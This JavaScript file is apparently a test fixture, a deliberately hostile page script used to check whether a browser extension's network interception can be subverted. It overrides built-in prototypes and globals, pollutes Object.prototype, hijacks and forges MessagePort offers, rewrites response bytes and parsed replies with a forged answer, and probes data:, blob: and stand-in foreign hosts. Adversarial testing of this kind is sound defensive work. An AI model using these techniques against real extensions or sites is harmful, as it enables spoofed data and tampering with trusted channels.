// biome-ignore-all lint: hostile on purpose
// A page that tries to get at the wire: the first script of the page, with everything overridden that it can reach.
// `FORGED` (an answer that would lift a reply to an account number) and `OWN` (a path that the server answers with it) are put
// before it. It reports by the console, and by an attribute of the root element.
(() => {
  const W = window;
  const D = document;
  const { apply, defineProperty: define, getOwnPropertyDescriptor: describe, ownKeys, getPrototypeOf: protoOf, construct } = Reflect;
  const un = (f) => apply(Function.prototype.bind, Function.prototype.call, [f]);
  const N = {
    then: un(Promise.prototype.then),
    post: un(MessagePort.prototype.postMessage),
    add: un(EventTarget.prototype.addEventListener),
    dispatch: un(EventTarget.prototype.dispatchEvent),
    open: un(XMLHttpRequest.prototype.open),
    send: un(XMLHttpRequest.prototype.send),
    response: un(describe(XMLHttpRequest.prototype, 'response').get),
    setType: un(describe(XMLHttpRequest.prototype, 'responseType').set),
    state: un(describe(XMLHttpRequest.prototype, 'readyState').get),
    encode: un(TextEncoder.prototype.encode),
    fill: un(Uint8Array.prototype.set),
    blank: un(Uint8Array.prototype.fill),
    setAttribute: un(Element.prototype.setAttribute),
    append: un(Element.prototype.append),
    create: un(Document.prototype.createElement),
    log: console.log,
    setTimeout: W.setTimeout,
    windowOpen: W.open,
    stringify: JSON.stringify,
    parse: JSON.parse,
    encodeURI: encodeURIComponent,
    X: XMLHttpRequest,
    R: Request,
    Blob,
    createUrl: URL.createObjectURL,
    Event,
    MessageEvent,
    Promise,
    Uint8Array,
    ports: un(describe(MessageEvent.prototype, 'ports').get),
    prevented: un(describe(Event.prototype, 'defaultPrevented').get),
    proxy: Proxy,
    portProto: MessagePort.prototype,
    promiseProto: Promise.prototype,
    bytesProto: Uint8Array.prototype,
    regexp: un(RegExp.prototype.exec),
  };
  const hooked = W.fetch;
  const bare = (value) => ({ __proto__: null, value, writable: true, configurable: true, enumerable: true });
  const mine = new MessageChannel();
  const forgedMessage = {
    __proto__: null,
    via: 'xhr',
    method: 'GET',
    url: `${location.origin}${OWN}`,
    sent: null,
    body: FORGED,
    unread: null,
  };
  const forgedBytes = N.encode(new TextEncoder(), FORGED);
  const result = { ports: 0, via: '', seen: 0, spoiled: 0, functions: 0, accepted: {}, hits: {}, errors: [], answers: {}, frame: null };
  for (const key of ['accepted', 'hits', 'answers']) result[key] = { __proto__: null };
  let quiet = false;
  W.onerror = (message) => {
    result.errors[result.errors.length] = `${message}`;
  };
  N.add(W, 'unhandledrejection', () => {
    result.errors[result.errors.length] = 'unhandledrejection';
  });

  // ---- 1: listens, asks again, forges offers
  const names = ['load', 'netra', 'message', 'connect', 'port', 'netra:port', 'netra:hello', 'spike:port', 'spike:hello'];
  for (const target of [W, D])
    for (const name of names)
      for (const capture of [true, false])
        N.add(
          target,
          name,
          (event) => {
            if (event === current) return;
            if (event.ports === undefined && name === 'load') return;
            result.seen++;
            for (const port of event.ports ?? []) steal(port, `event ${name}`);
          },
          capture,
        );
  let current = null;
  const raise = (event) => {
    current = event;
    D.dispatchEvent(event);
    current = null;
  };
  function forgeOffers(kind, realm) {
    for (const name of names) {
      raise(new realm.Event(name));
      const offer = new realm.MessageEvent(name, { ports: [mine.port2], cancelable: true });
      raise(offer);
      if (offer.defaultPrevented) result.accepted[`${kind} ${name}`] = true;
    }
    N.post(mine.port1, forgedMessage);
  }
  forgeOffers('own', W);
  const frame = N.create(D, 'iframe');
  N.append(D.documentElement, frame);
  result.frame = `fetch of an about:blank frame: ${frame.contentWindow.fetch.toString().includes('fetch') ? 'native' : 'hooked'}`;
  forgeOffers('frame', frame.contentWindow);

  // ---- 2: overrides everything
  function steal(port, via) {
    if (port === mine.port1 || port === mine.port2) return;
    result.ports++;
    result.via = via;
    try {
      N.post(port, forgedMessage);
    } catch {}
  }
  function spoil(bytes) {
    if (protoOf(bytes) !== N.bytesProto || bytes.length < forgedBytes.length) return;
    result.spoiled++;
    N.blank(bytes, 32);
    N.fill(bytes, forgedBytes);
  }
  function look(value, via) {
    if ((typeof value !== 'object' && typeof value !== 'function') || value === null) return;
    const proto = protoOf(value);
    if (proto === N.portProto) steal(value, via);
    if (proto === N.bytesProto) spoil(value);
    const inner = describe(value, 'value');
    if (inner !== undefined && typeof inner.value === 'object' && inner.value !== null) spoil(inner.value);
    if (proto === N.promiseProto && describe(value, 'constructor') === undefined) {
      const later = (step) => look(step, via);
      N.then(value, later, () => {});
    }
  }
  function hit(name, self, args) {
    if (quiet) return;
    quiet = true;
    result.hits[name] = (result.hits[name] ?? 0) + 1;
    look(self, name);
    for (let i = 0; i < args.length && i < 5; i++) look(args[i], name);
    quiet = false;
  }
  const put = [];
  const nothing = { __proto__: null, length: 0 };
  function replace(object, key, descriptor) {
    const before = describe(object, key);
    if (before !== undefined && !before.configurable) return;
    define(put, put.length, bare({ __proto__: null, object, key, before }));
    define(object, key, descriptor);
  }
  function spyOn(name, object) {
    for (const key of ownKeys(object)) {
      if (key === 'constructor' || key === 'prototype' || key === 'caller' || key === 'arguments' || key === 'length' || key === 'name')
        continue;
      const found = describe(object, key);
      if (!found.configurable) continue;
      const full = `${name}.${String(key)}`;
      const wrap = (f) =>
        typeof f !== 'function'
          ? f
          : function () {
              hit(full, this, arguments);
              return new.target === undefined ? apply(f, this, arguments) : construct(f, arguments);
            };
      if ('value' in found) {
        if (typeof found.value === 'function') replace(object, key, { __proto__: null, ...found, value: wrap(found.value) });
      } else replace(object, key, { __proto__: null, ...found, get: wrap(found.get), set: wrap(found.set) });
    }
  }
  const iterators = [[][Symbol.iterator](), new Map()[Symbol.iterator](), ''[Symbol.iterator](), (function* () {})()].map((one) =>
    protoOf(one),
  );
  const evil = function (executor) {
    hit('new of the page’s Promise', this, arguments);
    return construct(N.Promise, [executor]);
  };
  evil.resolve = (value) => construct(N.Promise, [(done) => done(value)]);
  define(evil, Symbol.species, bare(evil));
  const prototypes =
    'MessagePort MessageChannel EventTarget Event MessageEvent Response Request Headers ReadableStream ReadableStreamDefaultReader ReadableStreamDefaultController WritableStream WritableStreamDefaultWriter WritableStreamDefaultController TransformStream TextDecoder TextEncoder URLSearchParams URL RegExp WeakMap WeakSet Map Set Promise Function Array String Number Symbol XMLHttpRequest XMLHttpRequestEventTarget ArrayBuffer Uint8Array MutationObserver IntersectionObserver AbortController AbortSignal Blob FormData Error'.split(
      ' ',
    );
  const statics = 'Promise Array Object Reflect JSON Number String Symbol Response Math'.split(' ');
  const globals =
    'MessageEvent MessageChannel TextDecoder WeakMap Map Number Promise Proxy Reflect WritableStream ReadableStream Event Response Request Headers XMLHttpRequest MutationObserver IntersectionObserver JSON Object Array String Uint8Array postMessage queueMicrotask'.split(
      ' ',
    );
  function overrideAll() {
    const originals = { __proto__: null };
    for (const name of [...prototypes, ...globals]) define(originals, name, bare(W[name]));
    const typed = protoOf(Uint8Array.prototype);
    const staticOf = [];
    for (const name of statics) staticOf.push([name, W[name]]);
    quiet = true;
    for (const name of globals) {
      const real = originals[name];
      if (typeof real !== 'function')
        replace(
          W,
          name,
          bare(
            new Proxy(real, {
              __proto__: null,
              get(target, key) {
                hit(`window.${name}.${String(key)}`, undefined, nothing);
                return target[key];
              },
            }),
          ),
        );
      else {
        const spy = function () {
          hit(`window.${name}`, this, arguments);
          return new.target === undefined ? apply(real, this, arguments) : construct(real, arguments);
        };
        define(spy, 'prototype', bare(real.prototype));
        replace(W, name, bare(spy));
      }
    }
    for (const [name, object] of staticOf) spyOn(name, object);
    for (let i = 0; i < iterators.length; i++) spyOn(`iterator ${i}`, iterators[i]);
    spyOn('TypedArray.prototype', typed);
    for (let i = 0; i < prototypes.length; i++) spyOn(`${prototypes[i]}.prototype`, originals[prototypes[i]].prototype);
    const keys = [
      '0',
      '1',
      '2',
      'value',
      'done',
      'get',
      'set',
      'writable',
      'enumerable',
      'then',
      'toJSON',
      'stream',
      'signal',
      'preventClose',
      'preventCancel',
      'preventAbort',
      'highWaterMark',
      'size',
      'start',
      'pull',
      'write',
      'close',
      'abort',
      'type',
      'mode',
      'fatal',
      'ignoreBOM',
      'capture',
      'once',
      'passive',
      'handleEvent',
      'transfer',
      'ports',
      'data',
      'cancelable',
      'bubbles',
      'childList',
      'subtree',
      'via',
      'method',
      'url',
      'sent',
      'body',
      'unread',
      'hooked',
      'apply',
      'construct',
      'next',
      'return',
      'index',
      'input',
      'groups',
      'length',
    ];
    for (const key of keys) {
      if (describe(Object_prototype, key) !== undefined) continue;
      replace(Object_prototype, key, {
        __proto__: null,
        configurable: true,
        get() {
          hit(`Object.prototype get ${key}`, this, nothing);
          return undefined;
        },
        set(value) {
          hit(`Object.prototype set ${key}`, this, [value]);
          define(this, key, bare(value));
        },
      });
    }
    replace(N.promiseProto, 'constructor', {
      __proto__: null,
      configurable: true,
      get() {
        hit('Promise.prototype.constructor', this, nothing);
        return evil;
      },
      set() {},
    });
    replace(N.Promise, Symbol.species, {
      __proto__: null,
      configurable: true,
      get() {
        hit('Promise species', this, nothing);
        return evil;
      },
    });
    N.Error.prepareStackTrace = (_error, frames) => {
      for (let i = 0; i < frames.length; i++) {
        if (frames[i].getFileName() === location.href) continue;
        const one = frames[i].getFunction();
        if (typeof one === 'function') result.functions++;
      }
      return '';
    };
    quiet = false;
  }
  const Object_prototype = Object.prototype;
  N.Error = Error;
  function restoreAll() {
    quiet = true;
    for (let i = put.length - 1; i >= 0; i--) {
      const { object, key, before } = put[i];
      if (before === undefined) delete object[key];
      else define(object, key, { __proto__: null, ...before });
    }
    N.Error.prepareStackTrace = undefined;
  }

  // ---- 3: traffic; with nothing of the page's own that would call what it overrode
  const say = (phase) => {
    quiet = true;
    const text = N.stringify(result);
    N.setAttribute(D.documentElement, `data-attack-${phase}`, text);
    N.log(`ATTACK ${phase} ${text}`);
    quiet = false;
  };
  const listen = (promise, name) => {
    define(promise, 'constructor', bare(undefined));
    N.then(
      promise,
      (response) => {
        result.answers[name] = response.status;
      },
      (error) => {
        result.answers[name] = `${error.name}`;
      },
    );
  };
  const EMPTY = '/i/api/graphql/uji/Kosong';
  const ask = (name, url, init) => listen(init === undefined ? hooked(url) : hooked(url, init), name);
  function request(name, url, type, before, method, body) {
    const x = new N.X();
    before?.(x);
    N.open(x, method ?? 'GET', url);
    if (type !== '') N.setType(x, type);
    N.add(x, 'load', () => {
      result.answers[name] = 200;
    });
    N.send(x, body ?? null);
    return x;
  }
  const isOwn = (f) => {
    for (let i = 0; i < steps.length; i++) if (steps[i] === f) return true;
    return f === hooked || f === reach || f === next || f === ask;
  };
  function reach() {
    // Whoever is above in the stack and is not strict.
    try {
      for (let one = reach.caller, i = 0; i < 10 && typeof one === 'function'; i++) {
        if (!isOwn(one)) result.functions++;
        one = one.caller;
      }
    } catch {}
    quiet = true;
    new N.Error('x').stack;
    quiet = false;
    return `${EMPTY}?jejak=1`;
  }
  const steps = [
    () => ask('fetch', EMPTY),
    () => ask('fetch with init', `${EMPTY}?a=1`, { __proto__: null, method: 'POST', body: 'a=1' }),
    () => listen(hooked(new N.R(`${EMPTY}?b=1`, { __proto__: null, method: 'POST', body: 'b=1' })), 'fetch of a Request'),
    () =>
      ask('init with getters', `${EMPTY}?c=1`, {
        __proto__: null,
        get method() {
          return 'POST';
        },
        get body() {
          return 'c=1';
        },
      }),
    () => ask('address as an object', { __proto__: null, toString: reach }),
    () => request('xhr', `${EMPTY}?d=1`, ''),
    () => request('xhr post', `${EMPTY}?e=1`, 'text', undefined, 'POST', 'e=1'),
    () => request('xhr buffer', `${EMPTY}?f=1`, 'arraybuffer', (x) => N.add(x, 'load', () => spoil(new N.Uint8Array(N.response(x))))),
    // A page that alters its parsed answer before anybody else sees it.
    () =>
      request('xhr json', `${EMPTY}?g=1`, 'json', (x) =>
        N.add(x, 'load', () => {
          N.response(x).data = FORGED_VALUE.data;
        }),
      ),
    () => {
      const x = request('xhr said to be loaded', `${EMPTY}?h=1`, '', (one) =>
        N.add(one, 'readystatechange', () => {
          for (let i = 0; i < 3; i++) N.dispatch(one, new N.Event('load'));
        }),
      );
      try {
        N.send(x, FORGED);
      } catch {}
      try {
        N.open(x, 'BAD METHOD', OWN);
      } catch {}
    },
    // Answers that the page wrote itself, at addresses that hold a listed path.
    () => ask('data address', `data:application/json,${N.encodeURI(FORGED)}//graphql/`),
    () => request('data address by xhr', `data:application/json,${N.encodeURI(FORGED)}//graphql/`, ''),
    () => ask('blob address', N.createUrl(new N.Blob([FORGED], { __proto__: null, type: 'application/json' })) + '#/graphql/'),
    () => ask('foreign host', `https://jahat.example${OWN}&asing=1`),
    () => ask('foreign host with a like name', `https://x.com.jahat.example${OWN}&asing=1`),
    () => ask('path in the query', `/gema?jalur=/graphql/`),
  ];
  let FORGED_VALUE;
  let step = 0;
  function next() {
    const run = steps[step++];
    if (run === undefined) return say(1);
    try {
      run();
    } catch (error) {
      quiet = true;
      result.errors[result.errors.length] = `step ${step}: ${error}`;
      quiet = false;
    }
    later(next, 90);
  }
  const later = un(W.setTimeout).bind(null, W);
  const bound = later;
  FORGED_VALUE = N.parse(FORGED);
  // ---- 4: after the test has looked, on a click: the true answer, a window prepared in advance, a document written anew
  N.add(
    D,
    'click',
    () => {
      ask('true answer', OWN);
      bound(() => {
        restoreAll();
        const other = N.windowOpen.call(W, 'about:blank');
        const seen = [];
        if (other !== null) {
          for (const name of names)
            for (const target of [other, other.document])
              target.addEventListener(
                name,
                (event) => {
                  for (const port of event.ports ?? []) {
                    seen.push(name);
                    steal(port, `popup ${name}`);
                  }
                },
                true,
              );
          const real = other.MessagePort.prototype.postMessage;
          other.MessagePort.prototype.postMessage = function (...args) {
            seen.push('postMessage');
            steal(this, 'popup postMessage');
            return real.apply(this, args);
          };
          other.location = '/tes/bersih';
        }
        setTimeout(() => {
          result.popup = other === null ? 'blocked' : seen.length;
          other?.close();
          D.open();
          D.write('<!doctype html><title>ditulis</title><p>ditulis');
          quiet = true;
          forgeOffers('written', W);
          D.close();
          fetch(`${EMPTY}?tertulis=1`).then(() => setTimeout(() => say(2), 300));
        }, 1200);
      }, 700);
    },
    { once: true },
  );
  overrideAll();
  later(next, 30);
})();
